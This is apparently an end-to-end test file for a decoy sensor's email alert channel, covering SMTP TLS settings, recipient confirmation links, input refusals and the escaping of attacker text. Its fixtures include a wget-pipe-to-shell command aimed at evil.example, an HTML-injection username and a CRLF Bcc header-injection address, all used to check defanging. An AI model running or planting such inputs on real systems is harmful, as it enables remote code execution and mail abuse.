import { afterAll, beforeAll, describe, expect, test } from "bun:test"
import { SqlClient } from "@effect/sql"
import { ConfigProvider, Effect, Either, Layer } from "effect"
import { type AdminActor, asOperator } from "../../src/admin/actor.ts"
import { ChannelAdmin } from "../../src/admin/ChannelAdmin.ts"
import { AppConfig, AppConfigLive } from "../../src/platform/config.ts"
import { parseMailFrom, parseSmtpUrl, sendMail } from "../../src/platform/outbound/mailSend.ts"
import { type TestDatabase, testDatabase } from "../support/db.ts"
import { createOrg, createSensor } from "../support/fixtures.ts"
import { ingest, nativeEvent } from "../support/ingest.ts"
import { type RunningServer, shutdown, startServer, testEnv } from "../support/server.ts"
import { type ReceivedMail, type SmtpServer, startSmtpServer } from "../support/smtp.ts"

/**
 * Email alerts end to end: the real server mails through a real SMTP server started here (Debian's aiosmtpd, which
 * requires STARTTLS before AUTH and AUTH before MAIL, and records whether each message came over TLS and logged in).
 * A recipient gets nothing but the confirmation mail until they confirm by its link (a page, then a POST); a confirmed
 * one gets the alert, multipart/alternative, with the attacker's text inert in both parts.
 */

const USER = "alerts@decoy.test"
const PASSWORD = "p@ss word:/%"
const FROM = "Decoy alerts <alerts@decoy.example>"
const HOSTILE_USER = '<a href="http://evil.example/x">click</a><img src=http://evil.example/p.png>'
const HOSTILE_COMMAND = "wget https://evil.example/s.sh -O- | sh; javascript:alert(1)"

let smtp: SmtpServer
let server: RunningServer
let db: TestDatabase

beforeAll(async () => {
  smtp = await startSmtpServer({ mode: "starttls", user: USER, password: PASSWORD })
  server = await startServer({
    env: await testEnv({
      SMTP_URL: smtp.url,
      SMTP_FROM: FROM,
      SMTP_CA_FILE: smtp.caFile,
      WEBHOOK_POLL_INTERVAL: "200 millis",
    }),
  })
  db = testDatabase(server.env)
})
afterAll(async () => {
  await shutdown(server, db)
  await smtp?.stop()
})

const channels = <A, E>(use: (admin: ChannelAdmin) => Effect.Effect<A, E, AdminActor>) =>
  db.run(asOperator(Effect.flatMap(ChannelAdmin, use)))

const mailsTo = async (address: string) => (await smtp.messages()).filter((m) => m.rcptTos.includes(address))

/** The confirmation link a mail carries (in both parts), and the path the console serves it on. */
const linkIn = (mail: ReceivedMail) => {
  const link = /https:\/\/console\.test\/email\/confirm\/[A-Za-z0-9_-]+/.exec(mail.textPart ?? "")?.[0]
  expect(link).toBeDefined()
  expect(mail.htmlPart).toContain(`href="${link}"`)
  return new URL(link ?? "").pathname
}

/** Opens the confirmation page as a browser would, then presses its button. */
const confirm = async (path: string) => {
  const page = await fetch(`${server.consoleUrl}${path}`)
  const text = await page.text()
  if (page.status !== 200) return { page: page.status, text, posted: undefined }
  const cookie = (page.headers.get("set-cookie") ?? "").split(";")[0] ?? ""
  const csrf = /name="csrf" value="([^"]+)"/.exec(text)?.[1] ?? ""
  const posted = await fetch(`${server.consoleUrl}${path}`, {
    method: "POST",
    redirect: "manual",
    headers: { cookie, "content-type": "application/x-www-form-urlencoded", origin: server.consoleUrl },
    body: new URLSearchParams({ csrf }),
  })
  return { page: page.status, text, posted: { status: posted.status, text: await posted.text() } }
}

/** As if the channel's links had been mailed 11 minutes ago (past the quiet period of a new link). */
const mailedLongAgo = (channelId: string) =>
  db.run(
    Effect.flatMap(
      SqlClient.SqlClient,
      (sql) => sql`update email_recipients set invited_at = invited_at - interval '11 minutes'
        where channel_id = ${channelId}`,
    ),
  )

/** Every href of the HTML part, and whether any element could fetch something (img, link, script, style url()). */
const hrefs = (html: string) => [...html.matchAll(/href\s*=\s*"([^"]*)"/gi)].map((m) => m[1])

describe("an email channel", () => {
  test("only the confirmation until a recipient confirms; the confirmed one gets the alert over TLS, attacker text inert", async () => {
    const orgName = `Email e2e ${crypto.randomUUID().slice(0, 8)}`
    const org = await createOrg(db, orgName)
    const sensor = await createSensor(db, org.id, "ssh-decoy-1")
    const created = await channels((c) =>
      c.create(org.id, {
        kind: "email",
        url: undefined,
        recipients: "Ann@Example.test, bob@example.test",
        minSeverity: "low",
        settle: 0,
      }),
    )
    expect(created.recipients?.map((r) => [r.address, r.state, r.mailed])).toEqual([
      ["ann@example.test", "invited", true],
      ["bob@example.test", "invited", true],
    ])
    const confirmations = await smtp.waitFor(2)
    for (const mail of confirmations) {
      expect(mail.tls).toBe(true)
      expect(mail.authenticated).toBe(true)
      expect(mail.login).toBe(USER)
      expect(mail.mailFrom).toBe("alerts@decoy.example")
      expect(mail.rcptTos).toHaveLength(1)
      expect(mail.contentTypes).toEqual(["multipart/alternative", "text/plain", "text/html"])
      expect(mail.headers["auto-submitted"]).toBe("auto-generated")
    }
    const [annConfirmation] = await mailsTo("ann@example.test")
    const [bobConfirmation] = await mailsTo("bob@example.test")
    const annPath = linkIn(annConfirmation as ReceivedMail)
    const bobPath = linkIn(bobConfirmation as ReceivedMail)
    expect(annPath).not.toBe(bobPath)

    // Nobody has confirmed: a Send test has nobody to mail, and says so.
    const early = await channels((c) => c.test(created.id))
    expect(early.ok).toBe(false)
    expect(early.error).toContain("no confirmed recipient")

    // The page names what is confirmed; the GET alone confirms nothing (mail scanners fetch links).
    const listed = await channels((c) => c.recipients(created.id))
    expect(listed.map((r) => r.state)).toEqual(["waiting", "waiting"])
    const done = await confirm(annPath)
    expect(done.page).toBe(200)
    expect(done.text).toContain("ann@example.test")
    expect(done.text).toContain(orgName)
    expect(done.posted?.status).toBe(200)
    expect(done.posted?.text).toContain("Confirmed")
    // A link works once; a made-up one is the same answer.
    expect((await confirm(annPath)).page).toBe(410)
    expect((await confirm("/email/confirm/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")).page).toBe(410)
    expect((await channels((c) => c.recipients(created.id))).map((r) => [r.address, r.state])).toEqual([
      ["ann@example.test", "confirmed"],
      ["bob@example.test", "waiting"],
    ])

    // The attack: hostile username and command.
    const sent = await ingest(server.ingestUrl, "events", sensor.token, [
      nativeEvent({ sourceIp: "203.0.113.77", attackerInput: { username: HOSTILE_USER, password: "x" } }),
      nativeEvent({ sourceIp: "203.0.113.77", type: "ssh.command", attackerInput: { command: HOSTILE_COMMAND } }),
    ])
    expect(sent.status).toBe(200)
    const all = await smtp.waitFor(3)
    const alert = all[2] as ReceivedMail
    expect(alert.rcptTos).toEqual(["ann@example.test"])
    expect(alert.tls).toBe(true)
    expect(alert.authenticated).toBe(true)
    expect(alert.subject).toMatch(/^\[(low|medium|high|critical)\] /)
    expect(alert.contentTypes).toEqual(["multipart/alternative", "text/plain", "text/html"])
    expect(alert.defects).toEqual([])
    const html = alert.htmlPart ?? ""
    const text = alert.textPart ?? ""
    // Attacker text is there, defanged and escaped: never a link, an image or markup.
    for (const part of [html, text, alert.subject ?? ""]) {
      expect(part).not.toContain("evil.example")
      expect(part).not.toContain("http://evil")
      expect(part).not.toContain("https://evil")
    }
    expect(html).toContain("evil[.]example")
    expect(text).toContain("evil[.]example")
    expect(html).not.toMatch(/<img|<script|<link|<iframe|<form|url\(/i)
    expect(html).toContain("&lt;a href=")
    for (const href of hrefs(html)) expect(href).toStartWith("https://console.test/")
    expect(hrefs(html).length).toBeGreaterThan(0)
    // Bob, unconfirmed, got nothing but his confirmation.
    expect((await mailsTo("bob@example.test")).length).toBe(1)

    // Send test now reaches the confirmed recipient; the delivery log has both, with the server's reply.
    const tested = await channels((c) => c.test(created.id))
    expect(tested.ok).toBe(true)
    const afterTest = await smtp.waitFor(4)
    expect(afterTest[3]?.rcptTos).toEqual(["ann@example.test"])
    expect(afterTest[3]?.subject).toStartWith("[test] ")
    const log = await channels((c) => c.deliveries(created.id, undefined))
    const succeeded = log.filter((d) => d.status === "succeeded").map((d) => d.type)
    expect(succeeded).toContain("webhook.test")
    expect(succeeded).toContain("incident.created")
    expect(log.find((d) => d.type === "incident.created")?.log[0]?.response).toMatch(/^250/)
    expect((await mailsTo("bob@example.test")).length).toBe(1)

    // Bob is not mailed again within 10 minutes of his link (no flooding anyone's mailbox); after that he is mailed a
    // fresh link (the old one stops working), then removed; the old and new links both fail after.
    const soon = await channels((c) => c.inviteRecipients(created.id, "bob@example.test"))
    expect(soon).toEqual([{ address: "bob@example.test", state: "recent", mailed: false, error: null }])
    expect((await mailsTo("bob@example.test")).length).toBe(1)
    expect((await fetch(`${server.consoleUrl}${bobPath}`)).status).toBe(200)
    await mailedLongAgo(created.id)
    const again = await channels((c) => c.inviteRecipients(created.id, "bob@example.test"))
    expect(again).toEqual([{ address: "bob@example.test", state: "invited", mailed: true, error: null }])
    expect((await confirm(bobPath)).page).toBe(410)
    const fresh = (await mailsTo("bob@example.test"))[1] as ReceivedMail
    const freshPath = linkIn(fresh)
    await channels((c) => c.removeRecipient(created.id, "BOB@example.test"))
    expect((await confirm(freshPath)).page).toBe(410)
  }, 60_000)

  test("refusals: no recipients, a malformed address, recipients on another kind, a URL on email, over twenty", async () => {
    const org = await createOrg(db, `Email refusals ${crypto.randomUUID().slice(0, 8)}`)
    const refusal = (input: Parameters<ChannelAdmin["create"]>[1]) =>
      channels((c) => c.create(org.id, input).pipe(Effect.flip))
    expect(await refusal({ kind: "email", url: undefined, minSeverity: "low" })).toMatchObject({
      field: "recipients",
      reason: "required",
    })
    expect(
      await refusal({
        kind: "email",
        url: undefined,
        recipients: "soc@example.test, not an address",
        minSeverity: "low",
      }),
    ).toMatchObject({ field: "recipients", reason: "malformed" })
    expect(
      await refusal({ kind: "email", url: undefined, recipients: "a@b.test\r\nBcc: x@evil.test", minSeverity: "low" }),
    ).toMatchObject({ field: "recipients", reason: "malformed" })
    expect(
      await refusal({
        kind: "webhook",
        url: "https://example.com/h",
        recipients: "a@example.test",
        minSeverity: "low",
      }),
    ).toMatchObject({ field: "recipients", reason: "notApplicable" })
    expect(
      await refusal({ kind: "email", url: "https://example.com/", recipients: "a@example.test", minSeverity: "low" }),
    ).toMatchObject({ field: "url", reason: "notApplicable" })
    const many = Array.from({ length: 21 }, (_, i) => `p${i}@example.test`).join(",")
    expect(await refusal({ kind: "email", url: undefined, recipients: many, minSeverity: "low" })).toMatchObject({
      field: "recipients",
      reason: "malformed",
    })
    // Nothing was made by the refusals, and nobody was mailed.
    expect(await channels((c) => c.list(org.id))).toEqual([])
  })
})

describe("the SMTP settings", () => {
  const settings = (env: Record<string, string>) =>
    Effect.runPromise(
      Effect.either(
        Effect.provide(
          AppConfig,
          AppConfigLive.pipe(
            Layer.provide(
              Layer.setConfigProvider(
                ConfigProvider.fromMap(new Map(Object.entries({ SECRET_KEY: "a".repeat(64), ...env }))),
              ),
            ),
          ),
        ),
      ),
    )

  test("TLS is required: anything but smtps:// or smtp:// (STARTTLS) is refused at start-up, the password never shown", async () => {
    for (const url of [
      "http://u:topsecret@mail.example.com",
      "smtp://u:topsecret@mail.example.com:587?secure=false",
      "smtp://u:topsecret@mail.example.com/?ignoreTLS=true",
      "smtps://:topsecret@mail.example.com",
      "not a url topsecret",
    ]) {
      const result = await settings({ SMTP_URL: url, SMTP_FROM: "a@example.com" })
      expect(Either.isLeft(result)).toBe(true)
      const message = String(Either.isLeft(result) ? result.left : "")
      expect(message).toContain("SMTP_URL")
      expect(message).not.toContain("topsecret")
    }
    const missingFrom = await settings({ SMTP_URL: "smtps://u:p@mail.example.com" })
    expect(String(Either.isLeft(missingFrom) ? missingFrom.left : "")).toContain("SMTP_FROM")
    const missingUrl = await settings({ SMTP_FROM: "a@example.com" })
    expect(String(Either.isLeft(missingUrl) ? missingUrl.left : "")).toContain("SMTP_URL")
    const badFrom = await settings({ SMTP_URL: "smtps://u:p@mail.example.com", SMTP_FROM: "Alerts <not-an-address>" })
    expect(String(Either.isLeft(badFrom) ? badFrom.left : "")).toContain("SMTP_FROM")
    expect(parseSmtpUrl("smtp://u%40x:p%3Aw@mail.example.com")).toEqual({
      ok: true,
      server: { implicitTls: false, host: "mail.example.com", port: 587, user: "u@x", password: "p:w" },
    })
    expect(parseSmtpUrl("smtps://mail.example.com")).toMatchObject({
      ok: true,
      server: { implicitTls: true, port: 465 },
    })
  })

  test("implicit TLS (smtps://) delivers; a wrong password, or a server without a certificate we trust, does not", async () => {
    const implicit = await startSmtpServer({ mode: "implicit", user: USER, password: PASSWORD })
    try {
      const parsed = parseSmtpUrl(implicit.url)
      const from = parseMailFrom(FROM)
      if (!parsed.ok || !from.ok) throw new Error("test settings refused")
      const mail = { to: ["soc@example.test"], subject: "[high] test", text: "plain", html: "<p>html</p>" }
      const base = { server: parsed.server, from: from.from, ca: [implicit.ca], timeoutMs: 5000 }
      const ok = await sendMail(base, mail)
      expect(ok.error).toBeNull()
      expect(ok.responseBody).toMatch(/^250/)
      const [received] = await implicit.waitFor(1)
      expect(received?.tls).toBe(true)
      expect(received?.authenticated).toBe(true)
      const wrong = await sendMail({ ...base, server: { ...parsed.server, password: "wrong" } }, mail)
      expect(wrong.ok).toBe(false)
      expect(wrong.error).toContain("535")
      expect(wrong.error).not.toContain("wrong")
      const untrusted = await sendMail({ ...base, ca: [] }, mail)
      expect(untrusted.ok).toBe(false)
      expect((await implicit.messages()).length).toBe(1)
    } finally {
      await implicit.stop()
    }
  })
})
